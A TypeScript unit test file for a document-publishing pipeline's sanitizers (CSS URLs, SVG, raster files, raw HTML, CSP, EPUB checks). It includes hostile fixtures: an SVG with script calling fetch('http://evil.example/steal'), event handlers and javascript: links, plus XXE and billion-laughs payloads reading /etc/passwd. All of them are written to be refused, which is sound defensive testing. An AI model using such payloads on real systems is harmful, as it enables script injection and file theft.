/**
 * Unit tests of the pieces that keep active and foreign content out of editions: the CSS URL
 * scanner, the theme stylesheet check, the SVG sanitizer, the raster structure checks, raw HTML
 * repair, the CSP tag and the EPUB's last check. Each is tested by feeding it what it must refuse.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { deflateSync, crc32 } from 'node:zlib';
import { toHtml } from 'hast-util-to-html';
import { VFile } from 'vfile';
import { describe, expect, it } from 'vitest';
import { toDiagnostics } from '../src/pipeline/messages.js';
import { parseMarkdown, toHast } from '../src/pipeline/processor.js';
import { editionCsp, withCsp } from '../src/targets/csp.js';
import { parseHtml, toHtml as toPage } from '../src/targets/serialize.js';
import { verifyEpub } from '../src/targets/epub/verify.js';
import { vetCss } from '../src/theme/css.js';
import { cssReferences, foreignUrl } from '../src/util/css-urls.js';
import { rasterProblem } from '../src/util/raster.js';
import { sanitizeSvg } from '../src/util/svg.js';
import { repoRoot } from './helpers/cli.js';

const enc = (s: string) => new TextEncoder().encode(s);
const dec = (b: Uint8Array) => new TextDecoder().decode(b);

describe('CSS URLs', () => {
  it('finds every URL form, decodes escapes, skips comments, strings and @namespace', () => {
    const css = [
      '@import "a.css";',
      '@import url(b.css) screen;',
      '@namespace svg url(http://www.w3.org/2000/svg);',
      "p { background: URL( 'c.png' ) } /* url(commented) */",
      '@font-face { src: url(d.woff2) format("woff2"), src("e.woff") }',
      'q { background: -webkit-image-set("f.png" 1x, url(g.png) 2x) }',
      'r { background: \\75 rl(h.png) }',
      's { content: "url(not-a-url)" }',
      't { background: url(ht\\74p://evil.example/x) }',
    ].join('\n');
    expect(cssReferences(css).map((r) => `${r.via}:${r.url}`)).toEqual([
      'import:a.css',
      'url:b.css',
      'url:c.png',
      'url:d.woff2',
      'src:e.woff',
      'image-set:f.png',
      'url:g.png',
      'url:h.png',
      'url:http://evil.example/x',
    ]);
  });

  it('decodes escapes in names, strings and bare URLs where they fall, with their offsets', () => {
    // Each piece of the tokenizer that reads a run of characters at once: a name broken by an escape
    // (`\\55 RL`, `\\@import`), a string with an escaped quote, a line continuation and a 6-digit
    // escape, a bare URL with an escaped `)`, a string cut off by a newline, and a name of non-ASCII letters.
    const css = [
      'a { background: \\55 RL(i.png) }',
      '@\\69mport "j\\"k.css";',
      'b { background: url("l\\\n\\00006D.png") }',
      'c { background: url(n\\).png) }',
      'd { background: url("o.png',
      '") }',
      'é { background: url(p.png) }',
    ].join('\n');
    const refs = cssReferences(css);
    // The string cut off by its line still counts, and so does the rest of the line it leaves open:
    // a browser would drop both, and the check errs on the side of reporting.
    expect(refs.map((r) => `${r.via}:${r.url}`)).toEqual(['url:i.png', 'import:j"k.css', 'url:lm.png', 'url:n).png', 'url:o.png', 'url:) }', 'url:p.png']);
    // Offsets point at the token: the escaped name `\\55 RL(`, and the string after `@\\69mport`.
    expect(refs[0]!.offset).toBe(css.indexOf('\\55'));
    expect(refs[1]!.offset).toBe(css.indexOf('"j'));
  });

  it('tells foreign URLs from those that stay in the document', () => {
    expect(foreignUrl('#grad')).toBeUndefined();
    expect(foreignUrl('fonts/a.woff2')).toBeUndefined();
    expect(foreignUrl('data:font/woff2;base64,AAAA')).toBeUndefined();
    expect(foreignUrl('data:image/png;base64,AAAA')).toBeUndefined();
    expect(foreignUrl('data:text/html,<script>')).toMatch(/data:/);
    expect(foreignUrl('FILE:///etc/passwd')).toBe('file: URL');
    expect(foreignUrl('https://x.example/a.css')).toBe('https: URL');
    expect(foreignUrl('//x.example/a.css')).toBe('another host');
    expect(foreignUrl('/etc/passwd')).toBe('absolute path');
  });
});

describe('theme stylesheets', () => {
  const theme = mkdtempSync(path.join(os.tmpdir(), 'bp-theme-'));
  mkdirSync(path.join(theme, 'img'));
  writeFileSync(path.join(theme, 'img', 'logo.png'), 'x');
  const outside = mkdtempSync(path.join(os.tmpdir(), 'bp-outside-'));
  writeFileSync(path.join(outside, 'secret.png'), 'secret');
  symlinkSync(path.join(outside, 'secret.png'), path.join(theme, 'img', 'link.png'));

  it('accepts files of the theme, fragments and inline fonts; refuses the rest at their line and column', () => {
    const css = [
      '.a { background: url(img/logo.png) }',
      '.b { fill: url(#g) }',
      '@font-face { src: url(data:font/woff2;base64,AAAA) }',
      '.c { background: url(../outside.png) }',
      '.d { background: url(img/link.png) }',
      '  @import "http://evil.example/x.css";',
      '.e { background: url(/etc/passwd) }',
      '.f { background: url(//evil.example/y.png) }',
      '.g { background: url(img/%2e%2e/%2e%2e/z.png) }',
    ].join('\n');
    const ds = vetCss(css, path.join(theme, 'style.css'), theme);
    expect(ds.map((d) => `${d.line}:${d.column} ${d.ruleId} ${d.severity}`)).toEqual([
      '4:18 theme-css-url error',
      '5:18 theme-css-url error',
      '6:11 theme-css-url error',
      '7:18 theme-css-url error',
      '8:18 theme-css-url error',
      '9:18 theme-css-url error',
    ]);
    expect(ds[1]!.message).toContain('a link to a file outside the theme folder');
  });
});

const hostileSvg = (secret: string) => `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/css" href="http://evil.example/x.css"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" width="20" height="20" onload="document.title='pwned'">
  <metadata><rdf:RDF><rdf:Description about="x"/></rdf:RDF></metadata>
  <script type="text/javascript">fetch('http://evil.example/steal')</script>
  <style>@import url(http://evil.example/y.css); .a { fill: red }</style>
  <style>.b { fill: url(#grad) }</style>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="${secret}"></iframe></div></foreignObject>
  <image xlink:href="file://${secret}" width="1" height="1"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <use href="../../${path.basename(secret)}#a"/>
  <use xlink:href="#local"/>
  <rect id="local" width="5" height="5" style="fill: u\\72l(https://evil.example/p)" filter="url(http://evil.example/f#x)" onclick="alert(1)" xml:base="http://evil.example/"/>
  <a href="javascript:alert(1)"><text>t</text></a>
  <set attributeName="href" to="javascript:alert(1)"/>
  <html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(2)</html:script>
</svg>
`;

describe('SVG sanitizer', () => {
  it('removes scripts, handlers, embedded HTML and every outside reference, and says what it removed', () => {
    const r = sanitizeSvg(enc(hostileSvg('/tmp/secret.txt')));
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const out = dec(r.data);
    expect(out).not.toMatch(/<script|<html:script|foreignObject|onload|onclick|javascript:|evil\.example|secret|xml:base|xml-stylesheet|DOCTYPE|<set /i);
    // what is inert stays: fragments, inline raster images, metadata, harmless styles
    expect(out).toContain('xlink:href="#local"');
    expect(out).toContain('href="data:image/png;base64,iVBORw0KGgo="');
    expect(out).toContain('<rdf:RDF>');
    expect(out).toContain('.b { fill: url(#grad) }');
    // links are never followed in an image: the <a> goes, its text stays
    expect(out).not.toMatch(/<a[\s>]/);
    expect(out).toContain('<text>t</text>');
    expect(r.removed).toEqual(
      expect.arrayContaining([
        '<?xml-stylesheet?>',
        'onload handler',
        '<script>',
        '<foreignObject>',
        'xlink:href="file:///tmp/secret.txt"',
        'href="../../secret.txt#a"',
        'onclick handler',
        'xml:base',
        'href="javascript:alert(1)"',
        '<set attributeName="href">',
        '<html:script> (HTML)',
      ]),
    );
    expect(r.removed.some((x) => x.startsWith('<style> with url(http://evil.example/y.css)'))).toBe(true);
    expect(r.removed.some((x) => x.startsWith('style with url(https://evil.example/p)'))).toBe(true);
    expect(r.removed.some((x) => x.startsWith('filter with url('))).toBe(true);
    // what comes out is clean: a second pass finds nothing
    const again = sanitizeSvg(r.data);
    expect(again.ok && again.removed).toEqual([]);
  });

  it('refuses what it cannot make safe', () => {
    const laughs = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>';
    const xxe = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>';
    const cases: [string, Uint8Array, RegExp][] = [
      ['billion laughs', enc(laughs), /entities/],
      ['external entity', enc(xxe), /entities/],
      ['undefined entity', enc('<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'), /not well-formed.*entity/],
      ['not well-formed', enc('<svg xmlns="http://www.w3.org/2000/svg"><g></svg>'), /not well-formed/],
      ['no SVG namespace', enc('<svg><rect/></svg>'), /root element/],
      ['HTML root', enc('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'), /root element/],
      ['Latin-1', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><text>\xe9</text></svg>', 'latin1'), /UTF-8/],
      ['declared encoding', enc('<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"/>'), /encoding/],
      ['control character', enc('<svg xmlns="http://www.w3.org/2000/svg"><text>\u0001</text></svg>'), /character XML does not allow/],
    ];
    for (const [name, bytes, reason] of cases) {
      const r = sanitizeSvg(bytes);
      expect(r.ok, name).toBe(false);
      if (!r.ok) expect(r.reason, name).toMatch(reason);
    }
  });
});

function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([len, body, crc]);
}

function png(idat: Buffer = deflateSync(Buffer.alloc(2 * (1 + 6), 0x40)), width = 2, height = 2): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
}

describe('raster structure', () => {
  it('accepts whole PNG, JPEG, GIF and WebP files', () => {
    expect(rasterProblem(png(), 'image/png')).toBeUndefined();
    expect(rasterProblem(readFileSync(path.join(repoRoot, 'tests/fixtures/epub/briefs/rich-features/chart.png')), 'image/png')).toBeUndefined();
    expect(rasterProblem(jpeg(), 'image/jpeg')).toBeUndefined();
    expect(rasterProblem(gif, 'image/gif')).toBeUndefined();
    expect(rasterProblem(webp(), 'image/webp')).toBeUndefined();
  });

  it('refuses damaged PNGs: checksum, cut short, bad zlib, missing IDAT, oversized', () => {
    const flipped = png();
    flipped.writeUInt8(flipped[flipped.length - 20]! ^ 0xff, flipped.length - 20);
    expect(rasterProblem(flipped, 'image/png')).toMatch(/checksum/);
    expect(rasterProblem(png().subarray(0, 40), 'image/png')).toMatch(/cut short/);
    // CRC recomputed over garbage: the chunk is intact, the image data is not
    expect(rasterProblem(png(Buffer.from('78 9c de ad be ef 00 11 22'.replace(/ /g, ''), 'hex')), 'image/png')).toMatch(/decompress|cut short/);
    const noIdat = Buffer.concat([png().subarray(0, 33), chunk('IEND', Buffer.alloc(0))]);
    expect(rasterProblem(noIdat, 'image/png')).toMatch(/no image data/);
    expect(rasterProblem(png(deflateSync(Buffer.alloc(100)), 100000, 100000), 'image/png')).toMatch(/megapixels/);
    expect(rasterProblem(png(deflateSync(Buffer.alloc(5000, 1))), 'image/png')).toMatch(/larger than its size/);
  });

  it('refuses damaged JPEG, GIF and WebP files', () => {
    const j = jpeg();
    expect(rasterProblem(j.subarray(0, j.length - 2), 'image/jpeg')).toMatch(/end marker|cut short/);
    expect(rasterProblem(j.subarray(0, 30), 'image/jpeg')).toMatch(/cut short/);
    expect(rasterProblem(jpeg(false), 'image/jpeg')).toMatch(/before its frame header/);
    expect(rasterProblem(gif.subarray(0, gif.length - 1), 'image/gif')).toMatch(/trailer|cut short/);
    expect(rasterProblem(gif.subarray(0, 20), 'image/gif')).toMatch(/cut short|damaged/);
    const w = webp();
    expect(rasterProblem(w.subarray(0, w.length - 4), 'image/webp')).toMatch(/RIFF size|cut short/);
    const badFrame = webp();
    badFrame[20] = 0x00;
    expect(rasterProblem(badFrame, 'image/webp')).toMatch(/VP8L frame is damaged/);
  });
});

/** A JPEG's structure (not a decodable picture: the check reads segments, not pixels). */
function jpeg(withFrame = true): Buffer {
  const seg = (marker: number, data: Buffer) => {
    const h = Buffer.from([0xff, marker, 0, 0]);
    h.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([h, data]);
  };
  const sof = Buffer.from([8, 0, 1, 0, 1, 1, 1, 0x11, 0]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    seg(0xe0, Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1')),
    seg(0xdb, Buffer.alloc(65, 1)),
    ...(withFrame ? [seg(0xc0, sof)] : []),
    seg(0xc4, Buffer.alloc(20, 0)),
    seg(0xda, Buffer.from([1, 1, 0, 0, 0x3f, 0])),
    Buffer.from([0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** The classic 1x1 GIF. */
const gif = Buffer.from('47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex');

function webp(): Buffer {
  const vp8l = Buffer.from([0x2f, 0, 0, 0, 0, 0, 0, 0]);
  const chunkHead = Buffer.from('VP8L\0\0\0\0', 'latin1');
  chunkHead.writeUInt32LE(vp8l.length, 4);
  const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), chunkHead, vp8l]);
  const head = Buffer.from('RIFF\0\0\0\0', 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body]);
}

async function rawHtml(md: string, dir: string) {
  const file = new VFile({ path: path.join(dir, 'brief.md'), value: md });
  const tree = await toHast(parseMarkdown(file), file, { briefDir: dir, root: dir, rawHtml: true, qa: true, kind: 'body', ids: new Set() });
  return { html: toHtml(tree), messages: toDiagnostics(file, 'brief.md') };
}

describe('raw HTML', () => {
  it('leaves what Markdown itself writes alone: the sample brief gives no message with raw HTML on', async () => {
    const dir = path.join(repoRoot, 'manuscript/briefs/kerry-in-russia');
    const md = readFileSync(path.join(dir, 'brief.md'), 'utf8').replace(/^---[\s\S]*?\n---\n/, '');
    const feature = '## Q?\n\nText[^1], ~~old~~, `code`, **b** _i_ <https://example.org>\n\n- [ ] a\n- [x] b\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```js\nx()\n```\n\n[^1]: A note.\n';
    for (const text of [md, feature]) {
      const { messages } = await rawHtml(text, dir);
      expect(messages).toEqual([]);
    }
  });

  it('removes every remote resource and says so', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'bp-raw-'));
    const { html, messages } = await rawHtml(
      [
        '<picture><source srcset="https://evil.example/a.webp"><img src="x.png" alt="A" srcset="https://evil.example/b.png 2x"></picture>',
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"><track src="https://evil.example/t.vtt">Fallback</video>',
        '<audio src="a.mp3"></audio><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
        '<link rel="stylesheet" href="https://evil.example/s.css"><div style="background:url(https://evil.example/bg.png)">Styled</div>',
        '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/c.png">cell</td></tr></table>',
        '<iframe src="https://evil.example/f"></iframe><svg><image href="https://evil.example/i.png"/></svg><math><mi>x</mi></math>',
        '<form action="https://evil.example/post"><button formaction="https://evil.example/b">Go</button></form>',
        '<a href="https://example.org/ok" ping="https://evil.example/ping">ok</a><blockquote cite="https://example.org/src">q</blockquote>',
      ].join('\n\n'),
      dir,
    );
    expect(html).not.toMatch(/evil\.example|<source|<video|<audio|<track|<object|<embed|<link|<iframe|<svg|<math|<form|<button|style=|background=|srcset|poster|ping=/);
    expect(html).toContain('<a href="https://example.org/ok">ok</a>');
    expect(html).toContain('cite="https://example.org/src"');
    expect(messages.every((m) => m.line > 0 && m.column > 0)).toBe(true);
    const said = messages.map((m) => m.message).join('\n');
    for (const what of ['<source>', 'srcset', '<video>', '<audio>', '<object>', '<embed>', '<link>', 'style', 'background', '<iframe>', '<svg>', '<math>', '<button>', 'ping']) {
      expect(said, what).toContain(what);
    }
  });

  it('repairs what is not valid XHTML and drops ids that collide', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'bp-raw-'));
    const { html, messages } = await rawHtml(
      [
        '## Q?',
        '<pre><p>one</p><p>two</p></pre>',
        '<span id="content">a</span> <span id="x">b</span> <span id="x">c</span> <span id="q1">d</span> <span id="fn-1">e</span> <span id="1bad">f</span>',
        '<p><a href="https://a.example">outer <a href="https://b.example">inner</a></a></p>',
        '<ul><p>loose</p><li>item</li></ul>',
        '<li>stray</li>',
        '<p><input type="text" value="v"> <input type="checkbox" alt="no" checked></p>',
        '<style>p { color: red }</style>',
        '<p><strike>old</strike> <font color="red">red</font> <a href="javascript:alert(1)">js</a></p>',
      ].join('\n\n'),
      dir,
    );
    const count = (id: string) => html.split(`id="${id}"`).length - 1;
    expect(html).toContain('<pre>one\ntwo\n</pre>');
    expect([count('content'), count('x'), count('q1'), count('fn-1'), count('1bad')]).toEqual([0, 1, 1, 0, 0]);
    expect(html).toContain('<ul><li><p>loose</p></li><li>item</li></ul>');
    expect(html).not.toContain('p { color');
    expect(html).not.toMatch(/type="text"|alt="no"|javascript:|<strike|<font/);
    expect(html).toContain('<s>old</s>');
    const got = messages.map((m) => `${m.ruleId} ${m.severity}`);
    expect(got).toEqual(expect.arrayContaining(['raw-html-structure warning', 'raw-html-id warning', 'raw-html-removed warning', 'link-scheme error']));
    expect(messages.filter((m) => m.ruleId === 'raw-html-id').map((m) => m.message.split('`')[1])).toEqual(['content', 'x', 'q1', 'fn-1', '1bad']);
  });

  it('keeps attribute values an EPUB checker accepts: dates, language tags, URLs', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'bp-raw-'));
    const { html, messages } = await rawHtml(
      '<p><time datetime="2024-03-04">ok</time> <time datetime="someday">bad</time> <span lang="pt-BR">sim</span> <span lang="english!">no</span> <a href="https://example.org/a b">sp</a> <a href="https://exa mple.org/">host</a></p>',
      dir,
    );
    expect(html).toContain('<time datetime="2024-03-04">ok</time> <time>bad</time> <span lang="pt-BR">sim</span> <span>no</span> <a href="https://example.org/a%20b">sp</a> <a>host</a>');
    expect(messages.filter((m) => m.ruleId !== 'no-questions').map((m) => m.message)).toEqual([
      'Raw HTML `<time>`: removed datetime="someday"',
      'Raw HTML `<span>`: removed lang="english!"',
      'Raw HTML `<a>`: removed href="https://exa mple.org/" (not a valid URL)',
    ]);
  });

  it('keeps ids unique across the parts of a brief (body, bios, boilerplate)', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'bp-raw-'));
    const ids = new Set<string>();
    const part = async (md: string) => {
      const file = new VFile({ path: path.join(dir, 'brief.md'), value: md });
      await toHast(parseMarkdown(file), file, { briefDir: dir, root: dir, rawHtml: true, qa: false, kind: 'fragment', ids });
      return toDiagnostics(file, 'brief.md');
    };
    expect(await part('<span id="shared">body</span>')).toEqual([]);
    expect((await part('<span id="shared">bio</span>')).map((m) => m.ruleId)).toEqual(['raw-html-id']);
  });
});

describe('CSP tag', () => {
  it('leaves a page with the policy alone, and adds it to any other (a weaker policy of its own does not count)', () => {
    const csp = editionCsp();
    expect(csp).toContain("script-src 'none'");
    expect(csp).toContain("default-src 'none'");
    const page = (html: string) => toPage(withCsp(parseHtml(html), csp));
    // rehype-stringify writes ' as &#x27; inside attribute values.
    const written = csp.replace(/'/g, '&#x27;');
    const same = `<html><head><meta http-equiv="Content-Security-Policy" content="${csp.replace(/'/g, '&#39;')}"></head><body></body></html>`;
    expect(page(same)).toBe(`<html><head><meta http-equiv="Content-Security-Policy" content="${written}"></head><body></body></html>`);
    const weaker = `<html><head><meta http-equiv="content-security-policy" content="script-src *"></head><body></body></html>`;
    expect(page(weaker)).toBe(`<html><head>\n<meta http-equiv="Content-Security-Policy" content="${written}"><meta http-equiv="content-security-policy" content="script-src *"></head><body></body></html>`);
    const added = page('<!DOCTYPE html><html><head lang="en"><title>t</title></head></html>');
    expect(added).toMatch(/^<!DOCTYPE html><html><head lang="en">\n<meta http-equiv="Content-Security-Policy" content="[^"]*script-src &#x27;none&#x27;[^"]*"><title>/);
  });
});

describe('EPUB check', () => {
  const doc = (body: string) =>
    enc(`<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html>\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title><link rel="stylesheet" href="style.css"/></head>\n<body>${body}</body></html>`);
  const book = (a: string, b = '<p id="b1">b</p>') =>
    new Map<string, Uint8Array>([
      ['META-INF/container.xml', enc('<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/content.opf"/></rootfiles></container>')],
      ['OEBPS/content.opf', enc('<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml"/><item id="b" href="b.xhtml"/><item id="css" href="style.css"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>')],
      ['OEBPS/style.css', enc('p {}')],
      ['OEBPS/a.xhtml', doc(a)],
      ['OEBPS/b.xhtml', doc(b)],
    ]);

  it('passes a book whose documents are well-formed and whose references resolve', () => {
    expect(verifyEpub(book('<p id="a1"><a href="b.xhtml#b1">b</a> <a href="#a1">me</a> <a href="https://x.example">web</a></p>'))).toEqual([]);
  });

  it('finds a malformed document, a duplicate id, a dangling link and a missing file, with positions', () => {
    expect(verifyEpub(book('<p>open'))).toMatchObject([{ document: 'OEBPS/a.xhtml', message: expect.stringMatching(/not well-formed/) }]);
    expect(verifyEpub(book('<p>&nbsp;</p>'))[0]!.message).toMatch(/entity/);
    expect(verifyEpub(book('<p>a & b</p>'))[0]!.message).toMatch(/`&`/);
    const problems = verifyEpub(book('<p id="x">1</p>\n<p id="x">2</p>\n<a href="b.xhtml#nope">n</a><a href="c.xhtml">c</a><img src="images/no.png" alt=""/><a href="file:///etc/passwd">f</a>'));
    expect(problems.map((p) => `${p.document}:${p.line} ${p.message}`)).toEqual([
      "OEBPS/a.xhtml:5 has the id `x` twice",
      'OEBPS/a.xhtml:6 <a href="b.xhtml#nope">: OEBPS/b.xhtml has no element with the id `nope`',
      'OEBPS/a.xhtml:6 <a href="c.xhtml">: the book holds no OEBPS/c.xhtml',
      'OEBPS/a.xhtml:6 <img src="images/no.png">: the book holds no OEBPS/images/no.png',
      'OEBPS/a.xhtml:6 <a href="file:///etc/passwd">: the scheme file: has nothing to point at in a book',
    ]);
  });

  it('checks the package: manifest files and spine items', () => {
    const b = book('<p/>');
    b.delete('OEBPS/b.xhtml');
    b.set('OEBPS/content.opf', enc('<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml"/><item id="b" href="b.xhtml"/><item id="css" href="style.css"/></manifest><spine><itemref idref="a"/><itemref idref="zz"/></spine></package>'));
    expect(verifyEpub(b).map((p) => p.message)).toEqual(['<item href="b.xhtml">: the book holds no OEBPS/b.xhtml', 'the spine names `zz`, which the manifest does not list']);
  });
});

// Keep the fixture folder listing honest: the golden cases this file's rules rely on exist.
describe('catalogued cases', () => {
  it('has a golden case for each new error rule', () => {
    const cases = readdirSync(path.join(repoRoot, 'tests/fixtures/broken'));
    for (const c of ['image-corrupt', 'image-unsafe', 'theme-css-url', 'raw-html-sanitized']) expect(cases).toContain(c);
  });
});
